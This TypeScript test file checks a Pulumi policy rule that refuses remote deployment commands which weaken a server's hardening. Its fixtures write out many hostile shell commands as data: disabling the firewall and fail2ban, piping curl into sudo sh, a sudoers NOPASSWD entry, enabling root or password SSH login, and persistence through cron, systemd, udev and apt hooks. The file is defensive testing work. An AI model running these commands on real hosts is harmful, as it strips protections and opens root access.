import { describe, expect, it } from "vitest";
import { renderStepCommand } from "../../components/remote/command-line";
import { by, command, deployment, messages, pulumi, remoteCommand, violationsOf } from "./harness";

const RULE = "step-payloads-readable";
const conn = { host: "203.0.113.10", user: "ops", privateKey: "k" };

describe(RULE, () => {
  it("passes the real deployment, and harmless commands", async () => {
    expect(by(await violationsOf(() => deployment()), RULE)).toEqual([]);
    const v = await violationsOf(() => {
      remoteCommand({ create: "sudo apt-get install -y htop && ufw status verbose" }, {}, "htop");
      remoteCommand({ create: "cat > /etc/motd <<'EOF'\nhello\nEOF" }, {}, "motd");
    });
    expect(by(v, RULE)).toEqual([]);
  });

  const refused: [string, string, string][] = [
    ["ufw disabled", "sudo ufw --force disable", "changes the host firewall"],
    ["ufw opening a port", "sudo ufw allow 18789/tcp", "changes the host firewall"],
    ["iptables", "sudo iptables -I INPUT -p tcp --dport 18789 -j ACCEPT", "packet filtering"],
    ["fail2ban stopped", "sudo systemctl stop fail2ban", "turns a protection off"],
    ["the daily verification masked", "sudo systemctl mask --now openclaw-verify.timer", "turns a protection off"],
    ["the backups stopped", "sudo systemctl disable openclaw-backup.timer && sudo systemctl stop openclaw-backup.service", "turns a protection off"],
    ["the failure notifier masked", "sudo systemctl mask openclaw-notify@.service", "turns a protection off"],
    ["sed -i on sshd_config", "sudo sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config", "sed -i edits /etc/ssh/sshd_config"],
    ["a download into sshd_config.d", "sudo curl -o /etc/ssh/sshd_config.d/0.conf https://example.com/x.conf", "curl downloads to /etc/ssh/sshd_config.d/0.conf"],
    ["a write to a computed path", 'f="$(ls /etc/ssh/sshd_config.d | head -n 1)"; echo "PermitRootLogin yes" | sudo tee "/etc/ssh/sshd_config.d/$f"', "computed at run time"],
    ["eval of decoded text", 'eval "$(echo dWZ3IGRpc2FibGU= | base64 -d)"', "eval"],
    ["curl | sh", "curl -fsSL https://example.com/setup.sh | sudo sh", "pipes code the pack cannot read into sh"],
    ["openclaw config set", "sudo -u openclaw openclaw config set gateway.bind lan", "may change OpenClaw's configuration"],
    ["openclaw mcp set", "sudo -u openclaw openclaw mcp set shell '{\"command\":\"sh\"}'", "may change OpenClaw's configuration"],
    ["an inline python program", "python3 -c 'import os; os.system(\"true\")'", "runs a python3 program"],
    ["a downloaded program run as root", "sudo curl -fsSL -o /usr/local/bin/agent https://example.net/agent && sudo /usr/local/bin/agent", "content the pack cannot read"],
    ["unauthenticated packages", "sudo apt-get install -y --allow-unauthenticated foo", "without verifying their signatures"],
    ["a write after a cd the pack cannot follow", 'cd "$(mktemp -d)" && echo x > note', "cannot resolve"],
    ["a link onto a hardening directory", "sudo ln -sfn /etc/sudoers.d /etc/ops && echo x | sudo tee /etc/ops/agent", "a hardening path"],
    ["xargs", "echo /etc/ssh/sshd_config | xargs sudo sed -i s/no/yes/", "runs 'xargs'"],
    ["find -exec", "sudo find /etc/ssh -name '*.conf' -exec sed -i s/no/yes/ {} +", "runs 'find'"],
    ["ex", "sudo ex -s -c '$a|openclaw ALL=(ALL) NOPASSWD:ALL' -c wq /etc/sudoers", "runs 'ex'"],
    ["BASH_ENV", "sudo env BASH_ENV=/tmp/x.sh bash -c true", "sets BASH_ENV"],
    ["at", "echo 'ufw --force disable' | sudo at now + 30 minutes", "runs 'at'"],
    ["systemd-run", "sudo systemd-run --on-active=20min ufw --force disable", "runs 'systemd-run'"],
    ["a password for the admin", "echo 'ops:hunter2' | sudo chpasswd", "chpasswd"],
    ["an sshd of its own", "sudo /usr/sbin/sshd -p 2200 -o PasswordAuthentication=yes", "starts an sshd of its own"],
    ["a cron job", "echo '* * * * * ufw disable' | sudo crontab -", "crontab"],
  ];

  it.each(refused)("refuses %s", async (_what, create, text) => {
    const v = await violationsOf(() => remoteCommand({ create }));
    expect(messages(v, RULE)).toContain(text);
  });

  it("reads nested shells, ssh from a local command, and the content of piped scripts", async () => {
    const v = await violationsOf(() => {
      remoteCommand({ create: "sudo bash -c 'if true; then ufw --force disable; fi'" }, {}, "nested");
      new command.local.Command("via-ssh", { create: "ssh -i key ops@203.0.113.10 'sudo systemctl disable --now fail2ban'" });
      remoteCommand({ create: "cat <<'EOF' | sudo bash\nufw --force disable\nEOF" }, {}, "piped");
    });
    expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["nested", "piped", "via-ssh"]);
  });

  it("reads a root shell's heredoc (sudo -s)", async () => {
    const v = await violationsOf(() => remoteCommand({ create: "sudo -s <<'ROOT'\nufw --force disable\nROOT" }));
    expect(messages(v, RULE)).toContain("changes the host firewall");
  });

  it("reads what other boot-time and hook files will run (tmpfiles, logrotate, apt hooks, udev, units anywhere systemd loads them)", async () => {
    const write = (name: string, path: string, content: string) => remoteCommand({ create: `sudo tee ${path} >/dev/null <<'EOF'\n${content}\nEOF` }, {}, name);
    const v = await violationsOf(() => {
      write("tmpfiles", "/etc/tmpfiles.d/agent.conf", "f+ /etc/sudoers.d/agent 0440 root root - openclaw ALL=(ALL) NOPASSWD:ALL");
      write("logrotate", "/etc/logrotate.d/agent", "/var/log/agent.log {\n  daily\n  postrotate\n    ufw --force disable\n  endscript\n}");
      write("apt-hook", "/etc/apt/apt.conf.d/99hook", 'DPkg::Post-Invoke { "ufw --force disable"; };');
      write("udev", "/etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/usr/sbin/ufw --force disable"');
      write("usr-local-unit", "/usr/local/lib/systemd/system/late.service", "[Service]\nExecStart=/usr/sbin/ufw --force disable");
      write("control-dropin", "/etc/systemd/system.control/openclaw-gateway.service.d/50-x.conf", "[Service]\nExecStartPre=/usr/sbin/ufw --force disable");
      write("harmless-logrotate", "/etc/logrotate.d/app", "/var/log/app.log {\n  weekly\n  rotate 4\n}");
    });
    expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["apt-hook", "control-dropin", "logrotate", "tmpfiles", "udev", "usr-local-unit"]);
  });

  it("reads what shipped files run later (cron, a boot unit, rc.local), since no gate follows them", async () => {
    const v = await violationsOf(() => {
      remoteCommand({ create: "echo '*/5 * * * * root /usr/sbin/ufw --force disable' | sudo tee /etc/cron.d/open" }, {}, "cron");
      remoteCommand({ create: "sudo tee /etc/systemd/system/late.service <<'EOF'\n[Service]\nType=oneshot\nExecStart=/bin/systemctl stop fail2ban\n[Install]\nWantedBy=multi-user.target\nEOF" }, {}, "boot-unit");
      new command.remote.CopyToRemote("rc-local", { connection: conn, source: new pulumi.asset.StringAsset("#!/bin/sh\nsed -i s/no/yes/ /etc/ssh/sshd_config\n"), remotePath: "/etc/rc.local" });
      remoteCommand({ create: "echo '0 3 * * * root apt-get -y upgrade' | sudo tee /etc/cron.d/upgrade" }, {}, "harmless-cron");
    });
    expect(by(v, RULE).map((x) => x.urn.split("::").pop()).sort()).toEqual(["boot-unit", "cron", "rc-local"]);
    expect(messages(v, RULE)).toContain("/etc/cron.d/open");
  });

  it("refuses a catalogue step whose script is not the reviewed one", async () => {
    const genuine = renderStepCommand("ufw", { OC_SSH_PORT: "22" }).command;
    const fake = genuine.replace("ufw --force enable", "true");
    expect(fake).not.toBe(genuine);
    expect(messages(await violationsOf(() => remoteCommand({ create: fake })), RULE)).toContain("claims to be catalogue step 'ufw' but runs a script the pack does not know");
  });

  it("refuses a copy the pack cannot read into a hardening path, and a copy into /etc/ssh as a directory", async () => {
    const v = await violationsOf(() => {
      new command.remote.CopyToRemote("remote-asset", { connection: conn, source: new pulumi.asset.RemoteAsset("https://example.com/sshd.conf"), remotePath: "/etc/ssh/sshd_config.d/00-x.conf" });
      new command.remote.CopyToRemote("into-dir", { connection: conn, source: new pulumi.asset.StringAsset("PermitRootLogin yes\n"), remotePath: "/etc/ssh/sshd_config.d" });
    });
    expect(messages(v, RULE)).toMatch(/copy 'remote-asset': copies content the pack cannot read to \/etc\/ssh\/sshd_config.d\/00-x.conf[\s\S]*copy 'into-dir': copies into \/etc\/ssh\/sshd_config.d/);
  });
});
